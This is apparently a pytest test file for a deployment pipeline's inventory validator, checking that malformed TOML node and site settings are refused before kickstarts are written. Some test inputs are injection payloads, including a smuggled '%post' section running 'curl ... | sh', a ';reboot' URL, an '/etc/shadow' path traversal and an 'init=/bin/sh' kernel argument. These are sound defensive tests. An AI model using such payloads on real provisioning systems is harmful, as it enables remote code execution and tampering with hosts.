"""Node inventories: a good one becomes typed objects; each bad one is refused, naming file,
node and field, before any kickstart is written."""

import textwrap
from ipaddress import IPv4Address, IPv4Interface, IPv4Network
from pathlib import Path

import pytest

from pipeline import spec
from pipeline.deploy import inventory, kickstart
from pipeline.errors import InventoryError, SpecError
from pipeline.paths import ROOT

EXAMPLE = ROOT / "kickstarts" / "inventory.example.toml"
SITE = '[site]\nbase_url = "http://10.0.0.1:8080"\n'
NODE = {
    "macs": 'macs = ["52:54:00:00:00:01"]',
    "boot": 'boot = "uefi"',
    "root_disk": 'root_disk = "sda"',
    "role": 'role = "host-image"',
}
FAKE = {name: kickstart.LiveImage(f"{name}.qcow2", "0" * 64) for name in ("host-image", "guest-image")}


def node(name: str = "n1", **lines: str) -> str:
    """A [node.NAME] table: the base fields, each replaced by a line given (or dropped if "")."""
    fields = {**NODE, **lines}
    return f"[node.{name}]\n" + "".join(line + "\n" for line in fields.values() if line)


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "inventory.toml"
    path.write_text(textwrap.dedent(text))
    return path


def refused(tmp_path: Path, text: str) -> str:
    """Load and render; the inventory must be refused with one line, and nothing written."""
    path = write(tmp_path, text)
    output = tmp_path / "kickstarts"
    with pytest.raises(InventoryError) as caught:
        kickstart.render_all(inventory.load(path), output, liveimgs=FAKE)
    message = str(caught.value)
    assert message.startswith(f"{path}: "), message
    assert "\n" not in message
    assert not output.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["inventory.toml"]
    return message


def test_example_loads():
    loaded = inventory.load(EXAMPLE)
    assert list(loaded.nodes) == ["compute1", "compute2", "guest1"]
    compute1, compute2, guest1 = loaded.nodes.values()
    assert compute1.boot is inventory.Boot.UEFI and compute2.boot is inventory.Boot.BIOS
    assert compute1.boot_mac == "52:54:00:12:34:01"
    assert compute1.network.interface == IPv4Interface("10.0.0.11/24")
    assert compute1.network.gateway == IPv4Address("10.0.0.1")
    assert compute2.network.interface == IPv4Interface("10.0.0.12/24")  # from its netmask
    assert guest1.network is None  # DHCP
    assert compute1.cache == inventory.Cache("nvme0n1", "sdb", 100000, inventory.CacheMode.WRITETHROUGH)
    assert compute1.disks == ("sda", "sdb", "nvme0n1")
    assert compute2.disks == ("/dev/disk/by-id/wwn-0x5000c500a1b2c3d4",)
    assert loaded.site.base_url == "http://10.0.0.1:8080"
    assert loaded.spec.path == spec.SPEC_FILE


def test_kernel_args_and_tuned_profile_come_from_the_role_then_the_node(tmp_path):
    path = write(tmp_path, SITE + node(kernel_args='kernel_args = ["hugepages=16"]',
                                       tuned_profile='tuned_profile = "kvm-guest"')
                 + node("n2", macs='macs = ["52:54:00:00:00:02"]'))
    loaded = inventory.load(path)
    image = spec.load().get("host-image")
    n1, n2 = loaded.nodes.values()
    assert loaded.kernel_args(n1) == (*image.kernel_cmdline, "hugepages=16")
    assert loaded.kernel_args(n2) == tuple(image.kernel_cmdline)
    assert set(image.kernel_args) <= set(loaded.kernel_args(n2))
    assert loaded.tuned_profile(n1) == "kvm-guest"
    assert loaded.tuned_profile(n2) == image.tuned_profile == "openstack-compute"


def test_macs_are_lower_case_and_the_mode_defaults_to_writethrough(tmp_path):
    path = write(tmp_path, SITE + node(macs='macs = ["52:54:00:AB:CD:EF"]',
                                       cache='cache = { ssd = "nvme0n1", data = "sdb", size_mib = 1 }'))
    n1 = inventory.load(path).nodes["n1"]
    assert n1.macs == ("52:54:00:ab:cd:ef",)
    assert n1.cache.mode is inventory.CacheMode.WRITETHROUGH


def test_own_spec_file_relative_to_the_inventory(tmp_path):
    (tmp_path / "specs").mkdir()
    (tmp_path / "specs/images.toml").write_text('[image.g]\nelements = ["kvm-guest"]\ntuned_profile = "kvm-guest"\n')
    path = write(tmp_path, 'spec_file = "specs/images.toml"\n' + SITE + node(role='role = "g"'))
    loaded = inventory.load(path)
    assert loaded.nodes["n1"].role == "g"
    assert loaded.spec.path == (tmp_path / "specs/images.toml").resolve()


BAD_NODE = [
    ("macs", 'macs = ["52:54:00:00:00"]', "macs", "'52:54:00:00:00' is not a MAC address"),
    ("macs", 'macs = ["52-54-00-00-00-01"]', "macs", "is not a MAC address"),
    ("macs", "macs = []", "macs", "at least one MAC"),
    ("macs", 'macs = ["52:54:00:00:00:AA", "52:54:00:00:00:aa"]', "macs", "listed twice"),
    ("macs", "", "macs", "is required"),
    ("boot", 'boot = "pxe"', "boot", "must be one of bios, uefi, not 'pxe'"),
    ("network", 'network = "static"', "network", 'must be "dhcp" or a table'),
    ("network", 'network = { address = "10.0.0.300", prefix = 24 }', "network.address", "not an IPv4 address"),
    ("network", 'network = { address = "fd00::11", prefix = 64 }', "network.address", "not an IPv4 address"),
    ("network", 'network = { prefix = 24 }', "network.address", "is required"),
    ("network", 'network = { address = "10.0.0.11", prefix = 33 }', "network.prefix", "prefix length from 1 to 32"),
    ("network", 'network = { address = "10.0.0.11", prefix = "24" }', "network.prefix", "prefix length"),
    ("network", 'network = { address = "10.0.0.11", netmask = "255.0.255.0" }', "network.netmask", "not a netmask"),
    ("network", 'network = { address = "10.0.0.11", netmask = "0.0.0.255" }', "network.netmask", "not a netmask"),
    ("network", 'network = { address = "10.0.0.11", netmask = "24" }', "network.netmask", "not an IPv4 address"),
    ("network", 'network = { address = "10.0.0.11" }', "network.prefix", "one of them"),
    ("network", 'network = { address = "10.0.0.11", prefix = 24, netmask = "255.255.255.0" }', "network.prefix",
     "one of them"),
    ("network", 'network = { address = "10.0.0.255", prefix = 24 }', "network.address", "broadcast address"),
    ("network", 'network = { address = "10.0.0.11", prefix = 24, gateway = "10.0.1.1" }', "network.gateway",
     "10.0.1.1 is not another address in 10.0.0.0/24"),
    ("network", 'network = { address = "10.0.0.11", prefix = 24, nameservers = ["dns1"] }', "network.nameservers",
     "'dns1' is not an IP address"),
    ("network", 'network = { address = "10.0.0.11", prefix = 24, mtu = 9000 }', "network.mtu", "unknown field"),
    ("root_disk", 'root_disk = "sda,sdb"', "root_disk", "not a block device name"),
    ("root_disk", 'root_disk = "/dev/disk/../../etc/shadow"', "root_disk", "not a block device name"),
    ("root_disk", 'root_disk = "/tmp/disk.img"', "root_disk", "not a block device name"),
    ("root_disk", 'root_disk = "SDA"', "root_disk", "not a block device name"),
    ("cache", 'cache = { ssd = "nvme0n1", size_mib = 1000 }', "cache.data", "is required"),
    ("cache", 'cache = { data = "sdb", size_mib = 1000 }', "cache.ssd", "is required"),
    ("cache", 'cache = { ssd = "sdb", data = "/dev/sdb", size_mib = 1000 }', "cache.ssd", "also the data disk"),
    ("cache", 'cache = { ssd = "/dev/sda", data = "sdb", size_mib = 1000 }', "cache.ssd", "is the root disk"),
    ("cache", 'cache = { ssd = "nvme0n1", data = "sda", size_mib = 1000 }', "cache.data", "is the root disk"),
    ("cache", 'cache = { ssd = "nvme0n1", data = "sdb", size_mib = 0 }', "cache.size_mib", "positive"),
    ("cache", 'cache = { ssd = "nvme0n1", data = "sdb", size_mib = 1, mode = "writearound" }', "cache.mode",
     "must be one of writethrough, writeback"),
    ("cache", 'cache = "nvme0n1"', "cache", "must be a table"),
    ("role", 'role = "db-server"', "role", "unknown role 'db-server'"),
    ("role", "", "role", "is required"),
    ("kernel_args", 'kernel_args = ["quiet\\" init=/bin/sh"]', "kernel_args", "break the bootloader"),
    ("kernel_args", 'kernel_args = "quiet"', "kernel_args", "must be a list of strings"),
    ("tuned_profile", 'tuned_profile = "no-such-profile"', "tuned_profile", "profile 'no-such-profile' not found"),
    ("tuned_profile", 'tuned_profile = "../profiles/kvm-guest"', "tuned_profile", "invalid tuned profile name"),
    ("colour", 'colour = "red"', "colour", "unknown field; known fields: macs, boot, network"),
    # A trailing newline passed `re.match(...$)`: each pattern must match the whole value.
    ("macs", 'macs = ["52:54:00:00:00:01\\n"]', "macs", "is not a MAC address"),
    ("root_disk", 'root_disk = "sda\\n"', "root_disk", "not a block device name"),
    ("root_disk", 'root_disk = "/dev/disk/by-id/x\\n"', "root_disk", "not a block device name"),
    ("kernel_args", 'kernel_args = ["quiet\\n"]', "kernel_args", "break the bootloader"),
    # SELinux cannot be switched off per node: the argument's key decides, not its exact text.
    ("kernel_args", 'kernel_args = ["selinux=0"]', "kernel_args", "'selinux=0' sets selinux=, which the pipeline"),
    ("kernel_args", 'kernel_args = ["enforcing=0"]', "kernel_args", "sets enforcing="),
    ("kernel_args", 'kernel_args = ["lsm=landlock"]', "kernel_args", "sets lsm="),
    ("kernel_args", 'kernel_args = ["security=none"]', "kernel_args", "sets security="),
    ("role", 'role = ["host-image"]', "role", "unknown role ['host-image']"),
]


@pytest.mark.parametrize("key, line, field, problem", BAD_NODE, ids=[f"{b[2]}:{b[3]}" for b in BAD_NODE])
def test_bad_node_names_file_node_and_field(tmp_path, key, line, field, problem):
    message = refused(tmp_path, SITE + node(**{key: line}))
    assert message.startswith(f"{tmp_path / 'inventory.toml'}: node 'n1': field '{field}': "), message
    assert problem in message


def test_unknown_role_lists_the_known_images(tmp_path):
    message = refused(tmp_path, SITE + node(role='role = "db-server"'))
    assert (f"not an image of {spec.SPEC_FILE}; known images: guest-image, guest-image-bookworm, host-image, "
            "host-image-bookworm") in message


BAD_NODES = [
    ('[node."-n1"]\n', "-n1", "hostname", "not a host name"),
    ('[node."n_1"]\n', "n_1", "hostname", "not a host name"),
    ('[node."n1.example.com"]\n', None, None, None),  # a good FQDN, for contrast
    ('[node."n1\\n"]\n', "n1\\n", "hostname", "not a host name"),  # as the error's repr() shows it
    ("[node.n1.example.com]\n", "n1", "example", 'a host name with dots needs quotes: [node."n1.example..."]'),
]


@pytest.mark.parametrize("header, name, field, problem", BAD_NODES, ids=[b[0].strip() for b in BAD_NODES])
def test_host_names(tmp_path, header, name, field, problem):
    text = SITE + header + node().split("\n", 1)[1]
    if name is None:
        assert list(inventory.load(write(tmp_path, text)).nodes) == ["n1.example.com"]
        return
    message = refused(tmp_path, text)
    assert f": node '{name}': field '{field}': " in message, message
    assert problem in message


DUPLICATES = [
    (node("N1", macs='macs = ["52:54:00:00:00:02"]'), "N1", "hostname",
     "n1 belongs to node 'n1' already (host names ignore case)"),
    (node("n2", macs='macs = ["52:54:00:00:00:03", "52:54:00:00:00:01"]'), "n2", "macs",
     "52:54:00:00:00:01 belongs to node 'n1' already"),
    (node("n2", macs='macs = ["52:54:00:00:00:0A"]'), "n2", "macs", "52:54:00:00:00:0a belongs to node 'n1'"),
    (node("n2", macs='macs = ["52:54:00:00:00:02"]', network='network = { address = "10.0.0.11", prefix = 24 }'),
     "n2", "network.address", "10.0.0.11 belongs to node 'n1' already"),
]


@pytest.mark.parametrize("second, name, field, problem", DUPLICATES, ids=[d[2] + ":" + d[1] for d in DUPLICATES])
def test_duplicates_across_nodes(tmp_path, second, name, field, problem):
    first = node(macs='macs = ["52:54:00:00:00:0a", "52:54:00:00:00:01"]',
                 network='network = { address = "10.0.0.11", prefix = 24 }')
    message = refused(tmp_path, SITE + first + second)
    assert f": node '{name}': field '{field}': " in message, message
    assert problem in message


BAD_FILE = [
    ('[site]\nbase_url = "ftp://10.0.0.1/"\n' + node(), "field 'site.base_url': not an http(s) URL"),
    ('[site]\nbase_url = "10.0.0.1:8080"\n' + node(), "field 'site.base_url': not an http(s) URL"),
    (node(), "field 'site.base_url': is required"),
    (SITE + 'snippets = "nowhere"\n' + node(), "field 'site.snippets': 'nowhere' is not a directory"),
    (SITE + 'includes = ["file:///etc/passwd"]\n' + node(), "field 'site.includes': not an http(s) URL"),
    # Each of these got through once: a %post section from an include, GRUB commands after a ';', a
    # dhcp-script= line in dnsmasq.conf from a newline.
    (SITE + 'includes = ["http://x/site.ks\\n%post\\ncurl\\thttp://x/y|sh\\n%end"]\n' + node(),
     "field 'site.includes': not an http(s) URL"),
    ('[site]\nbase_url = "http://10.0.0.1:8080/x;reboot"\n' + node(), "field 'site.base_url': not an http(s) URL"),
    ('[site]\nbase_url = "http://10.0.0.1:8080\\ndhcp-script=/tmp/x"\n' + node(),
     "field 'site.base_url': not an http(s) URL"),
    ('[site]\nbase_url = "http://10.0.0.1:8080/${x}"\n' + node(), "field 'site.base_url': not an http(s) URL"),
    ('[site]\nbase_url = "http://10.0.0.1:8080/a b"\n' + node(), "field 'site.base_url': not an http(s) URL"),
    (SITE + 'timezone = "UTC"\n' + node(), "field 'site.timezone': unknown field; known fields: base_url"),
    ('site = "x"\n' + node(), "field 'site': must be a table"),
    (SITE, "field 'node': no [node.HOSTNAME] tables"),
    ('spec_file = "nowhere.toml"\n' + SITE + node(), "field 'spec_file': 'nowhere.toml' is not a file"),
    ('nodes = 3\n' + SITE + node(), "field 'nodes': unknown top-level key"),
    (SITE + "[node.n1\n", "not valid TOML"),
    (SITE + "[node.n1]\n[node.n1]\n", "not valid TOML"),  # TOML itself refuses a table twice
]


@pytest.mark.parametrize("text, problem", BAD_FILE, ids=[b[1] for b in BAD_FILE])
def test_bad_file(tmp_path, text, problem):
    message = refused(tmp_path, text)
    assert problem in message, message


def test_missing_inventory(tmp_path):
    with pytest.raises(InventoryError, match="inventory file not found"):
        inventory.load(tmp_path / "nowhere.toml")


def test_a_bad_spec_file_is_named(tmp_path):
    (tmp_path / "images.toml").write_text('[image.g]\nelements = ["kvm-guest"]\n')
    path = write(tmp_path, 'spec_file = "images.toml"\n' + SITE + node())
    with pytest.raises(SpecError, match=r"images.toml: image 'g': key 'tuned_profile': is required"):
        inventory.load(path)


# --- [site.pxe]: the PXE server's settings (pipeline/deploy/pxe.py)


def test_site_pxe_defaults_and_values(tmp_path):
    assert inventory.load(EXAMPLE).site.pxe == inventory.PxeSite(None, None, inventory.Loader.IPXE)
    path = write(tmp_path, SITE + '[site.pxe]\ninterface = "enp1s0"\nsubnet = "10.0.0.0/24"\n'
                 'loader = "pxelinux-grub"\n' + node())
    pxe = inventory.load(path).site.pxe
    assert pxe == inventory.PxeSite("enp1s0", IPv4Network("10.0.0.0/24"), inventory.Loader.PXELINUX_GRUB)


BAD_PXE = [
    ('interface = "eth0 eth1"', "site.pxe.interface", "not a network interface name"),
    ('interface = "eth1\\n"', "site.pxe.interface", "not a network interface name"),
    ('interface = "a-very-long-name0"', "site.pxe.interface", "not a network interface name"),  # 16 characters
    ('interface = ".."', "site.pxe.interface", "not a network interface name"),
    ("interface = 0", "site.pxe.interface", "not a network interface name"),
    ('subnet = "10.0.0.1/24"', "site.pxe.subnet", "'10.0.0.1/24' is not an IPv4 network such as 10.0.0.0/24"),
    ('subnet = "10.0.0.0"', "site.pxe.subnet", "not an IPv4 network"),  # a prefix is needed
    ('subnet = "fd00::/64"', "site.pxe.subnet", "not an IPv4 network"),
    ('loader = "grub"', "site.pxe.loader", "must be one of ipxe, pxelinux-grub, not 'grub'"),
    ('tftp_root = "/srv"', "site.pxe.tftp_root", "unknown field; known fields: interface, subnet, loader"),
]


@pytest.mark.parametrize("line, field, problem", BAD_PXE, ids=[b[0] for b in BAD_PXE])
def test_bad_site_pxe_names_the_field(tmp_path, line, field, problem):
    message = refused(tmp_path, SITE + f"[site.pxe]\n{line}\n" + node())
    assert message.startswith(f"{tmp_path / 'inventory.toml'}: field '{field}': "), message
    assert problem in message


def test_site_pxe_must_be_a_table(tmp_path):
    message = refused(tmp_path, '[site]\nbase_url = "http://10.0.0.1:8080"\npxe = "ipxe"\n' + node())
    assert "field 'site.pxe': must be a table" in message
